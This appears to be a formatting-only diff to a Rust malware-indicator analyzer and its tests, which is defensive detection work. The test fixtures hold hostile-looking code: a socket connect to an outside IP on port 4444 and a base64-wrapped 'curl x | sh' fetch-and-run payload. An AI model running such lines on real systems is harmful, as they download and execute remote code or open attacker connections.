@@ -75,7 +75,10 @@ impl Analysis {
                 "indicator [{}]{}: {}\n",
                 ind.kind.label(),
                 if ind.is_regex { " (regex)" } else { "" },
-                ind.text.replace('\\', "\\\\").replace('\n', "\\n").replace('\t', "\\t"),
+                ind.text
+                    .replace('\\', "\\\\")
+                    .replace('\n', "\\n")
+                    .replace('\t', "\\t"),
             ));
         }
         out
@@ -89,10 +92,10 @@ impl Analysis {
             if let Some(rest) = line.strip_prefix("summary: ") {
                 analysis.summary = rest.to_owned();
             } else if let Some(rest) = line.strip_prefix("indicator [") {
-                let Some((label, value)) = rest.split_once("]: ").or_else(|| {
-                    rest.split_once("] (regex): ")
-                        .map(|(l, v)| (l, v))
-                }) else {
+                let Some((label, value)) = rest
+                    .split_once("]: ")
+                    .or_else(|| rest.split_once("] (regex): "))
+                else {
                     continue;
                 };
                 let is_regex = rest.contains("] (regex): ");
@@ -210,9 +213,15 @@ pub fn analyze_code(code: &str) -> Analysis {
     for m in url_re.find_all(bytes).into_iter().take(8) {
         let url = String::from_utf8_lossy(&bytes[m.start..m.end]).into_owned();
         // Benign well-known hosts are not IOCs.
-        if ["readthedocs.io", "github.com", "githubusercontent", "python.org", "example.org"]
-            .iter()
-            .any(|ok| url.contains(ok))
+        if [
+            "readthedocs.io",
+            "github.com",
+            "githubusercontent",
+            "python.org",
+            "example.org",
+        ]
+        .iter()
+        .any(|ok| url.contains(ok))
         {
             continue;
         }
@@ -367,14 +376,19 @@ mod tests {
     #[test]
     fn extracts_ip_iocs_but_not_localhost() {
         let a = analyze_code("s.connect(('185.62.190.159', 4444)); t.connect(('127.0.0.1', 80))\n");
-        let iocs: Vec<&Indicator> = a.indicators.iter().filter(|i| i.kind == IndicatorKind::Ioc).collect();
+        let iocs: Vec<&Indicator> = a
+            .indicators
+            .iter()
+            .filter(|i| i.kind == IndicatorKind::Ioc)
+            .collect();
         assert_eq!(iocs.len(), 1);
         assert_eq!(iocs[0].text, "185.62.190.159");
     }
 
     #[test]
     fn base64_blob_becomes_regex_indicator() {
-        let payload = digest::base64::encode(b"import os; os.system('curl x | sh'); print('padding')");
+        let payload =
+            digest::base64::encode(b"import os; os.system('curl x | sh'); print('padding')");
         let a = analyze_code(&format!("exec(base64.b64decode('{payload}'))\n"));
         assert!(a.indicators.iter().any(|i| i.is_regex));
         assert!(a.indicators.iter().any(|i| i.text == "base64.b64decode"));
